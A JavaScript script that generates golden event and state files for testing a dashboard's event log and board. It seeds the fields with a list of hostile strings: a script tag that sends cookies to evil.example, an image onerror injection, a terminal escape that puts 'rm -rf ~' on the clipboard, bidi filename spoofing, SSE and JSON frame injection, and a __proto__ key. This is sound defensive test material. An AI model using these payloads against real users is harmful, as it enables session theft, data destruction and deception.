/** @file What writes the golden list that both folds pass: events in the order of a log, and the board after each. */

import { deepStrictEqual } from "node:assert";
import { writeFileSync } from "node:fs";
import { Board } from "../../src/dashboard/store.js";
import { Server } from "./server.js";

/*
 * Log ids and times differ from log to log, so the files hold "0000000000000000" and 1763829000000 + seq in their
 * place: who compares puts the same into what a server of its own answers, or takes both out. A state stands for
 * the seq that it names. Not every seq has one, lest the file be large: all are compared when it is written.
 */
const LOG_ID = "0000000000000000";
const TIME_MS = 1_763_829_000_000;

const HOSTILE = [
  "<script>fetch('//evil.example/'+document.cookie)</script>",
  "<img src=x onerror=alert(1)>\"'`&lt;</textarea></title>",
  "\u001b]52;c;cm0gLXJmIH4=\u0007\u001b[2J",
  "user\u202etxt.exe\u202c\u2066isolate\u2069\u200f zero\u200bwidth\u200d\ufeff\u2060\u00ad",
  "a\rb\nc\r\nd\u0000e\tf\u000b\u007f\u0085",
  '\n\ndata: {"seq":9}\nid: 0123456789abcdef-9\nevent: reset\n\n',
  '"},{"seq":1,"kind":"approval_resolved"',
  '\\u0000\\ud800\\\\ \\" \\/ \\n \u2028\u2029',
  "🐝👩‍👩‍👧‍👦 grün 漢字 ﷽ e\u0301\u0301\u0301 \ufffd\uffff",
  "",
];

/** @param {number} index */
const hostile = (index) => HOSTILE[index % HOSTILE.length] ?? "";

/** @param {number} id @param {Record<string, unknown>} [more] */
function approval(id, more = {}) {
  const agent = id % 3 ? "alice" : "constructor";
  return { kind: "approval_added", id, agent, approval_kind: id % 2 ? "apply_commit" : "spawn", ...more };
}

/** @param {ReturnType<typeof approval>} added @param {Record<string, unknown>} end */
function resolved(added, end) {
  const { id, agent, approval_kind } = added;
  return {
    kind: "approval_resolved",
    id,
    agent,
    approval_kind,
    resolved_at: 1_763_829_100 + (id % 1_000),
    ...end,
  };
}

/** @param {number} id @param {Record<string, unknown>} [more] */
function question(id, more = {}) {
  const options = id % 2 ? ["yes", "no", hostile(id)] : [];
  const asked_at = 1_763_829_000 + id;
  return {
    kind: "question_added",
    id,
    asker: "bob",
    question: hostile(id),
    options,
    multi: id % 2 === 1,
    asked_at,
    ...more,
  };
}

/** @param {number} id @param {Record<string, unknown>} end */
function closed(id, end) {
  return { kind: "question_resolved", id, answered_at: 1_763_829_200 + id, cancelled: false, ...end };
}

/** @param {string} name @param {string} transient_kind @param {Record<string, unknown>} [more] */
function set(name, transient_kind, more = {}) {
  return { kind: "transient_set", name, transient_kind, since_unix: 1_763_829_000, ...more };
}

function* events() {
  const message = { from: "alice", to: "operator", body: hostile(0), at: 1_763_829_001 };
  yield { kind: "sent", ...message, message_id: 1 };
  yield { kind: "delivered", ...message, message_id: 1 };
  yield { kind: "sent", ...message, body: hostile(5) };
  const diff = `diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+${hostile(1)}\n`;
  const first = approval(1, { sha_short: "abc1234", diff, description: hostile(3) });
  yield first;
  yield approval(2, { description: null });
  yield question(1);
  yield question(2, { deadline_at: 1_999_999_999 });
  yield set("carol", "spawning", { expires_at: 1_999_999_999 });
  yield set("dave", "starting");
  yield set("carol", "restarting", { since_unix: 1_763_829_010 });
  yield { kind: "deploy.finished", approval_id: 1, ok: true, took: 1.5, big: 123456789012 };
  yield resolved(first, { status: "approved", note: hostile(4), by: "operator" });
  yield { kind: "transient_cleared", name: "dave" };
  yield set("dave", "stopping");
  yield { kind: "transient_cleared", name: "carol", reason: "failed" };
  yield set("constructor", "rebuilding");
  yield set("valueof", "destroying");
  yield { kind: "transient_cleared", name: "dave", reason: "lease_expired" };
  yield { kind: "transient_cleared", name: "valueof", reason: "restart" };
  yield closed(1, { answer: "yes\nno", answerer: "operator", outcome: "answered", selected: ["yes", "no"] });
  yield closed(2, { answer: "[expired]", answerer: "ttl-watchdog", outcome: "expired" });
  yield question(3);
  yield closed(3, { answer: "[cancelled]", answerer: "bob", outcome: "cancelled", cancelled: true });
  yield {
    kind: "swarm.note",
    id: 2,
    agent: "alice",
    status: "approved",
    ["__proto__"]: [hostile(2)],
    nested: { a: [{}, [], null] },
  };
  const largest = approval(Number.MAX_SAFE_INTEGER, { description: hostile(8) });
  yield largest;
  for (let id = 10; id < 66; id++) yield* round(id);
  yield resolved(largest, { status: "failed", note: null, description: hostile(9), by: null });
  yield resolved(approval(2), { status: "denied", note: "last" });
  // Closed after younger ones: the newest first is by when they were closed.
  yield question(100);
  yield question(101);
  yield closed(101, { answer: hostile(6), answerer: "operator" });
  yield closed(100, { answer: hostile(7), answerer: "operator", selected: null });
}

/** One of each, opened and closed, so that after fifty of them the oldest falls off. @param {number} id */
function* round(id) {
  const statuses = ["approved", "denied", "failed"];
  const added = approval(id, id % 4 ? { sha_short: `a${id}` } : { description: hostile(id) });
  const end = { status: statuses[id % 3], note: id % 7 ? null : hostile(id), by: id % 5 ? "operator" : null };
  yield added;
  yield question(id, { question: `${id}?`, ...(id % 2 ? {} : { deadline_at: null }) });
  yield resolved(added, end);
  if (id % 3 === 0) yield closed(id, { answer: "[cancelled]", answerer: "bob", cancelled: true });
  else if (id % 3 === 1) yield closed(id, { answer: "[expired]", answerer: "ttl-watchdog" });
  else yield closed(id, { answer: "", answerer: "operator", selected: id % 2 ? ["no"] : [] });
}

/** The same for every log. @param {string} text */
function normalised(text) {
  const timed = text.replace(
    /"seq":(\d+),"recorded_at_ms":\d+/g,
    (_, seq) => `"seq":${seq},"recorded_at_ms":${TIME_MS + Number(seq)}`,
  );
  return timed.replace(/^\{"log_id":"[0-9a-f]{16}"/, `{"log_id":"${LOG_ID}"`);
}

const server = await Server.begin();
try {
  for (const event of events()) await server.append(event);
  const lines = await server.call("api/history", { accept: "application/x-ndjson" });
  const all = lines.trimEnd().split("\n");
  const states = [await server.call("api/state?at=0")];
  const board = new Board(JSON.parse(states[0] ?? ""));
  for (const [index, line] of all.entries()) {
    const state = await server.call(`api/state?at=${index + 1}`);
    board.apply(JSON.parse(line));
    deepStrictEqual(board.toState(), JSON.parse(state));
    if (index < 40 || index % 40 === 0 || index >= all.length - 6) states.push(state);
  }
  const folder = new URL("../golden/", import.meta.url);
  writeFileSync(new URL("board.events.ndjson", folder), `${all.map(normalised).join("\n")}\n`);
  writeFileSync(new URL("board.states.ndjson", folder), `${states.map(normalised).join("\n")}\n`);
  console.log(`${all.length} events`);
} finally {
  await server.end();
}
